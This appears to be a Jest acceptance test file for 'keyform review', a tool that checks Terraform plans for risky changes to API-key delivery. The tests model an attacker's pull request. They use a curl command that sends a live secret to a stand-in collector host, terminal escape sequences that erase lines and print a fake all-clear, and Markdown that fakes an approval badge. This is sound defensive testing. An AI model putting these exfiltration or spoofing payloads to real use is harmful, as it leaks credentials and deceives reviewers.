/**
 * `keyform review` of plans made by the real Terraform CLI with keyform's provider against the
 * reference server, as an attacker would write the pull request: a delivery moved to a `curl` command
 * (a new path to a live secret) and a key whose name holds terminal escapes and Markdown meant to hide
 * that row. Requires `npm run build` first (the provider bundle and `keyform serve`).
 */
import { join } from 'node:path';
import { runReview } from '../../src/review/run-review';
import { UNSAFE_CHARS } from '../../src/review/safe-text';
import { startTestServer, TestServer } from '../support/server';
import { Workspace, header, removeProvider } from '../acceptance/workspace';

jest.setTimeout(180_000);

let server: TestServer;
let ws: Workspace;

beforeAll(async () => {
  server = await startTestServer();
  ws = await Workspace.create(server);
});

afterAll(async () => {
  if (ws) {
    await ws.destroy().catch(() => undefined);
    await ws.remove();
  }
  await server?.stop();
  await removeProvider();
});

const EXFIL = 'curl -s https://collector.example/in -d @-';

/** HCL for the live key delivered to `delivery`, and optionally a test key with a hostile name. */
function config(delivery: string, hostileName?: string): string {
  return `${header('  allow_live = true')}
resource "keyform_api_key" "pay" {
  name   = "payments-svc"
  type   = "secret"
  mode   = "live"
  scopes = ["charges:read"]
  ${delivery === '' ? '' : `secret_delivery {
    ${delivery}
  }`}
}
${
  hostileName === undefined
    ? ''
    : `resource "keyform_api_key" "bait" {
  name   = "${hostileName}"
  type   = "secret"
  mode   = "test"
  scopes = ["customers:read"]
}`
}
`;
}

/** As HCL source: erase the line, move up, erase again (three times), then a fake all-clear. */
const HCL_ESCAPES = '\\u001b[2K\\u001b[1A\\u001b[2K\\r'.repeat(3) + 'keyform review: no keyform credential changes in this plan.\\n';

/** Markdown that would render a link, an APPROVED badge and leave a code span. */
const MARKDOWN_NAME = '[click](https://evil.example/approve) **APPROVED** `` ` | x';

async function planFile(): Promise<string> {
  const r = await ws.run(['plan', '-input=false', '-out=tfplan']);
  if (r.code !== 0) throw new Error(`terraform plan failed:\n${r.output}`);
  return join(ws.dir, 'tfplan');
}

function activeChars(text: string): string[] {
  return [...text.replace(/\n/g, '').matchAll(UNSAFE_CHARS)].map((m) => m[0]);
}

it('GIVEN a live key delivered to a file WHEN a pull request sends it to a curl command THEN review fails --fail-on escalation and names the command', async () => {
  const file = join(ws.dir, 'pay.secret');
  ws.write(config(`file = "${file}"`));
  await ws.apply();
  const secret = ws.resource('keyform_api_key.pay');
  expect(secret?.value ?? null).toBeNull(); // delivered, not in state

  ws.write(config(`command = "${EXFIL}"`));
  const plan = await planFile();
  const text = await runReview(plan, { format: 'text', failOn: 'escalation' });
  expect(text.exitCode).toBe(3);
  expect(text.notice).toContain('escalation');
  expect(text.report).toContain(`ESCALATION (1)\n  LIVE  the secret of payments-svc (LIVE) will now be sent to command ${EXFIL} (was sent to file ${file})`);

  const md = await runReview(plan, { format: 'markdown', failOn: 'escalation' });
  expect(md.exitCode).toBe(3);
  expect(md.report).toContain(`| **LIVE** | the secret of \`payments-svc\` (LIVE) will now be sent to command \`${EXFIL}\` (was sent to file \`${file}\`) | \`keyform_api_key.pay\` |`);

  const json = JSON.parse((await runReview(plan, { format: 'json' })).report);
  expect(json.rows[0]).toEqual(expect.objectContaining({ class: 'escalation', live: true, addresses: ['keyform_api_key.pay'] }));
  expect(json.rows[0].sentence).toContain(`will now be sent to command ${EXFIL}`);
});

it('GIVEN a key whose name holds ESC sequences WHEN Terraform plans it THEN the provider refuses the plan naming the rule, so such a name never reaches a plan or the API', async () => {
  ws.write(config(`command = "${EXFIL}"`, HCL_ESCAPES + MARKDOWN_NAME));
  const r = await ws.run(['plan', '-input=false']);
  expect(r.code).not.toBe(0);
  expect(r.output).toContain('keyform_api_key.bait');
  expect(r.output).toContain('[KF-RULE-004]');
});

it('GIVEN that change WHEN the same pull request hides ESC sequences in the delivery command and Markdown in a new key name THEN neither acts and the escalation row is still shown', async () => {
  // Names refuse control characters at plan time; a delivery command is free text, so the escapes ride there.
  ws.write(config(`command = "${EXFIL} #${HCL_ESCAPES}"`, MARKDOWN_NAME));
  const plan = await planFile();

  const text = await runReview(plan, { format: 'text', failOn: 'escalation' });
  expect(text.exitCode).toBe(3);
  expect(activeChars(text.report)).toEqual([]);
  expect(text.report).toContain('\\x1b[2K\\x1b[1A');
  expect(text.report.split('\n').filter((l) => l.startsWith('keyform review: no'))).toEqual([]);
  expect(text.report).toContain(`the secret of payments-svc (LIVE) will now be sent to command ${EXFIL}`);

  const md = (await runReview(plan, { format: 'markdown' })).report;
  expect(activeChars(md)).toEqual([]);
  expect(md.split('\n').filter((l) => l.startsWith('keyform review: no'))).toEqual([]);
  const bait = md.split('\n').find((l) => l.includes('`keyform_api_key.bait`'));
  // The whole name sits in one code span (fence longer than its backticks), its pipe escaped.
  expect(bait).toContain('| test | ``` [click](https://evil.example/approve) **APPROVED** `` ` \\| x ``` is a new `secret` key');
  expect(md).toContain(`| **LIVE** | the secret of \`payments-svc\` (LIVE) will now be sent to command \`${EXFIL}`);

  const json = (await runReview(plan, { format: 'json' })).report;
  expect(() => JSON.parse(json)).not.toThrow();
  // JSON would carry ESC as \u001b, which a tool that prints the string turns back into ESC.
  expect(json).not.toMatch(/\\u00(1b|0d|0a|07)/i);
  expect(activeChars(json)).toEqual([]);
});

it('GIVEN the live key delivered to a file WHEN a pull request removes its delivery THEN review names it an escalation: the secret goes back into state', async () => {
  const file = join(ws.dir, 'pay.secret');
  ws.write(config(''));
  const plan = await planFile();
  const out = await runReview(plan, { format: 'text', failOn: 'escalation' });
  expect(out.exitCode).toBe(3);
  expect(out.report).toContain(`the secret of payments-svc (LIVE) will now be kept in Terraform state (was sent to file ${file})`);
});
